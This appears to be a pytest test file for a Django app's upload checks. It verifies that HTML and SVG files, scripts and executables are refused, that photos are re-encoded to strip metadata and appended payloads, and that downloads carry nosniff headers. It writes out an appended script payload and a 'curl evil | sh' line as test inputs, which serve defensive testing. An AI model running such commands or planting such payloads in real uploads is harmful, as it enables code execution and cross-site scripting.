"""Uploads (dangjian.lib.uploads) through the pages a secretary uses: content decides, not the file name;
HTML and SVG are refused with a Chinese message naming the file and nothing is stored; pictures are
re-encoded (no metadata, no appended payload); every download carries nosniff, documents as attachments.

The files are real ones written by Pillow, openpyxl and python-docx, and a real .xls (tests/sample_files.py)."""

import datetime
import io
import re

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from dangjian.lib import uploads
from tests import sample_files
from tests.meetings.conftest import hold


@pytest.fixture
def media(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def stored_files(root):
    return [p for p in root.rglob("*") if p.is_file()]


def body(resp) -> bytes:
    return b"".join(resp.streaming_content) if resp.streaming else resp.content


# --- Through the meeting page: the stored-XSS case from the issue -------------------------------------------


@pytest.mark.parametrize(
    "name, content",
    [("活动照片.html", sample_files.HTML), ("活动照片.svg", sample_files.SVG), ("活动照片.jpg", sample_files.HTML)],
)  # the name does not matter
def test_html_or_svg_photo_is_refused_on_the_meeting_page_and_nothing_is_stored(world, login, media, name, content):
    meeting = hold(world.branch_a, "theme_day", datetime.date(2026, 11, 3))
    client = login(world.alice)
    resp = client.post(
        f"/meetings/{meeting.pk}/attachments/",
        {"kind": "photo", "title": "活动现场", "file": SimpleUploadedFile(name, content, "image/jpeg")},
        follow=True,
    )
    page = resp.content.decode()
    assert f"“{name}”不能上传" in page and "可能含有脚本" in page and "只能上传照片" in page
    assert meeting.attachments.count() == 0 and stored_files(media) == []


def test_png_photo_is_stored_under_a_random_name_and_served_reencoded_with_nosniff(world, login, media):
    meeting = hold(world.branch_a, "theme_day", datetime.date(2026, 11, 3))
    client = login(world.alice)
    # A PNG with a script appended after the image data: a valid picture that also carries a payload.
    original = sample_files.png((40, 30)) + b"<script>alert(1)</script>"
    client.post(
        f"/meetings/{meeting.pk}/attachments/",
        {"kind": "photo", "title": "活动现场", "file": SimpleUploadedFile("现场.png", original, "image/png")},
    )
    att = meeting.attachments.get()
    assert "现场" not in att.file.name.split("/")[-2]  # the directory that makes it unique is random
    resp = client.get(f"/meetings/attachment/{att.pk}/")
    served = body(resp)
    assert resp.status_code == 200 and resp["Content-Type"] == "image/png"
    assert resp["X-Content-Type-Options"] == "nosniff" and "sandbox" in resp["Content-Security-Policy"]
    assert resp["Content-Disposition"].startswith("inline")  # a re-encoded picture may be shown in the page
    assert b"<script>" not in served and served != original
    with Image.open(io.BytesIO(served)) as img:
        assert (img.format, img.size, img.getpixel((5, 5))) == ("PNG", (40, 30), (200, 30, 30))


def test_jpeg_metadata_is_stripped(world, login, media):
    meeting = hold(world.branch_a, "theme_day", datetime.date(2026, 11, 3))
    client = login(world.alice)
    photo = sample_files.jpeg(exif_comment="GPS 31.2304N 121.4737E 王芳家")
    assert "31.2304N".encode() in photo
    client.post(
        f"/meetings/{meeting.pk}/attachments/",
        {"kind": "photo", "file": SimpleUploadedFile("IMG_0001.JPG", photo, "image/jpeg")},
    )
    served = body(client.get(f"/meetings/attachment/{meeting.attachments.get().pk}/"))
    assert b"31.2304N" not in served and Image.open(io.BytesIO(served)).size == (64, 48)


def test_pdf_is_not_a_photo_but_is_a_sign_in_sheet(world, login, media):
    meeting = hold(world.branch_a, "theme_day", datetime.date(2026, 11, 3))
    client = login(world.alice)
    url = f"/meetings/{meeting.pk}/attachments/"
    page = client.post(
        url, {"kind": "photo", "file": SimpleUploadedFile("签到表.pdf", sample_files.pdf())}, follow=True
    ).content.decode()
    assert "“签到表.pdf”不能上传" in page and meeting.attachments.count() == 0
    client.post(url, {"kind": "sign_in", "file": SimpleUploadedFile("签到表.pdf", sample_files.pdf())})
    resp = client.get(f"/meetings/attachment/{meeting.attachments.get().pk}/")
    assert resp["Content-Disposition"].startswith("attachment") and resp["X-Content-Type-Options"] == "nosniff"
    assert body(resp) == sample_files.pdf()


# --- Archive: a PDF download is an attachment under the uploader's name ------------------------------------


def test_pdf_download_is_an_attachment_with_the_original_name(world, login, media):
    client = login(world.alice)
    pdf = sample_files.pdf()
    resp = client.post(
        "/archive/org/BRA/new/",
        {
            "category": "incoming",
            "number": "江教党〔2026〕9号",
            "title": "关于报送材料的通知",
            "date": "2026-03-02",
            "retention": "long",
            "file": SimpleUploadedFile("通知.pdf", pdf, "application/pdf"),
        },
    )
    assert resp.status_code == 302
    from dangjian.archive.models import DocumentFile

    f = DocumentFile.objects.get()
    assert f.name == "通知.pdf" and "通知" not in f.file.name and f.file.name.endswith(".pdf")
    resp = client.get(f"/archive/file/{f.pk}/")
    assert resp.status_code == 200 and resp["Content-Type"] == "application/pdf"
    disposition = resp["Content-Disposition"]
    assert disposition.startswith("attachment") and "%E9%80%9A%E7%9F%A5.pdf" in disposition  # 通知.pdf
    assert resp["X-Content-Type-Options"] == "nosniff"
    assert body(resp) == pdf


def test_archive_refuses_a_script_and_registers_nothing(world, login, media):
    from dangjian.archive.models import Document

    client = login(world.alice)
    resp = client.post(
        "/archive/org/BRA/new/",
        {
            "category": "incoming",
            "title": "脚本",
            "date": "2026-03-02",
            "retention": "long",
            "file": SimpleUploadedFile("run.sh", b"#!/bin/sh\ncurl evil | sh\n"),
        },
    )
    assert resp.status_code == 200 and "“run.sh”不能上传" in resp.content.decode()
    assert Document.objects.count() == 0 and stored_files(media) == []


# --- Other upload sites share the same check -----------------------------------------------------------------


def test_rectification_evidence_refuses_html_among_good_files_and_keeps_nothing(world, login, media):
    from dangjian.rectification import services

    item = services.rectification_raise(
        actor=world.bob,
        org=world.branch_a,
        source="manual",
        source_ref="",
        problem="支委会记录不全",
        owner=world.person_a,
        due_date=datetime.date(2026, 12, 31),
    )
    client = login(world.alice)
    resp = client.post(
        f"/rectification/{item.pk}/report/",
        {
            "closure_note": "已补记",
            "files": [
                SimpleUploadedFile("记录.jpg", sample_files.jpeg()),
                SimpleUploadedFile("说明.htm", sample_files.HTML),
            ],
        },
        follow=True,
    )
    assert "“说明.htm”不能上传" in resp.content.decode()
    item.refresh_from_db()
    assert item.status == "open" and item.files.count() == 0 and stored_files(media) == []


def test_activity_photo_must_be_a_picture(world, login, media):
    from dangjian.plans.models import Activity

    client = login(world.alice)
    data = {"org": world.branch_a.pk, "kind": "volunteer", "title": "社区志愿服务", "held_on": "2026-10-01"}
    resp = client.post("/plans/activities/", {**data, "photo": SimpleUploadedFile("合影.svg", sample_files.SVG)})
    assert "“合影.svg”不能上传" in resp.content.decode() and Activity.objects.count() == 0
    resp = client.post("/plans/activities/", {**data, "photo": SimpleUploadedFile("合影.jpg", sample_files.jpeg())})
    assert resp.status_code == 302 and Activity.objects.get().photos.count() == 1


def test_honour_certificate_link_downloads_the_scan_in_scope_only(world, login, media):
    from dangjian.plans.models import Honour

    client = login(world.alice)
    resp = client.post(
        "/plans/honours/",
        {
            "org": world.branch_a.pk,
            "person": world.person_a.pk,
            "title": "优秀党务工作者",
            "level": "school",
            "awarded_by": "飞龙中学",
            "awarded_on": "2026-07-01",
            "certificate": SimpleUploadedFile("证书.pdf", sample_files.pdf()),
        },
    )
    assert resp.status_code == 302
    honour = Honour.objects.get()
    url = f"/plans/honours/{honour.pk}/certificate/"
    assert url in client.get("/plans/honours/").content.decode()
    resp = client.get(url)
    assert resp.status_code == 200 and resp["Content-Disposition"].startswith("attachment")
    assert "%E8%AF%81%E4%B9%A6.pdf" in resp["Content-Disposition"] and body(resp) == sample_files.pdf()
    assert login(world.charlie).get(url).status_code == 404


def test_size_limits_per_kind(world, login, media, settings):
    settings.DANGJIAN_UPLOAD_LIMITS = {"image": 2000, "document": 100_000}
    big_photo = sample_files.png((400, 400), (1, 2, 3)) + bytes(3000)
    assert len(big_photo) > 2000
    with pytest.raises(Exception) as err:
        uploads.accept(SimpleUploadedFile("大照片.png", big_photo), field="file")
    assert "“大照片.png”太大" in str(err.value) and "照片最大" in str(err.value)
    assert uploads.accept(SimpleUploadedFile("通知.pdf", sample_files.pdf())).type == "pdf"


def test_a_file_stored_before_the_check_is_downloaded_as_an_opaque_attachment(world, login, media):
    # Old data: an HTML "photo" saved before this check existed must not render from our origin.
    from dangjian.meetings.models import MeetingAttachment

    meeting = hold(world.branch_a, "theme_day", datetime.date(2026, 11, 3))
    att = MeetingAttachment.objects.create(meeting=meeting, kind="photo", file=ContentFile(sample_files.HTML, "x.html"))
    resp = login(world.alice).get(f"/meetings/attachment/{att.pk}/")
    assert resp["Content-Disposition"].startswith("attachment")
    assert resp["Content-Type"] == "application/octet-stream" and resp["X-Content-Type-Options"] == "nosniff"


# --- The sniffing itself, on real files -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "maker, name, expected",
    [
        (sample_files.png, "a.png", "png"),
        (sample_files.jpeg, "a.jpg", "jpeg"),
        (sample_files.pdf, "a.pdf", "pdf"),
        (sample_files.xlsx, "a.xlsx", "xlsx"),
        (sample_files.docx, "a.docx", "docx"),
        (sample_files.xls, "a.xls", "xls"),
    ],
)
def test_real_files_are_recognised_by_content(maker, name, expected):
    assert uploads.accept(SimpleUploadedFile(name, maker())).type == expected


def _zip(members: dict) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        for n, data in members.items():
            zf.writestr(n, data)
    return out.getvalue()


@pytest.mark.parametrize(
    "name, content",
    [
        ("a.txt", "请报送".encode()),
        ("a.zip", _zip({"readme.txt": "x"})),
        # A macro-enabled workbook declares another main part than .xlsx: refused.
        (
            "a.xlsx",
            _zip(
                {
                    "[Content_Types].xml": '<Types><Override PartName="/xl/workbook.xml" '
                    'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
                }
            ),
        ),
        ("a.exe", b"MZ\x90\x00" + bytes(100)),
        ("a.jpg", b"\xff\xd8\xff\xe0 not really a jpeg"),
    ],
)
def test_other_content_is_refused_naming_the_file(name, content):
    with pytest.raises(Exception) as err:
        uploads.accept(SimpleUploadedFile(name, content), field="file")
    assert f"“{name}”" in str(err.value)


@given(st.text(min_size=1, max_size=60).filter(lambda s: "/" not in s and "\\" not in s and s.strip()))
def test_a_png_is_accepted_under_any_name_and_kept_under_a_random_one(name):
    accepted = uploads.accept(_named(sample_files.png(), name))
    assert accepted.type == "png" and accepted.name.endswith(".png")
    assert re.fullmatch(r"[0-9a-f]{32}\.png", accepted.file.name)


@given(st.binary(max_size=200), st.sampled_from([b"<", b" <", b"\xef\xbb\xbf<", b"\n\t<"]))
def test_anything_starting_like_markup_is_refused(tail, head):
    with pytest.raises(Exception) as err:
        uploads.accept(_named(head + tail, "page.png"))
    assert "“page.png”不能上传" in str(err.value)


def _named(data: bytes, name: str):
    f = ContentFile(data)
    f.name = name
    return f
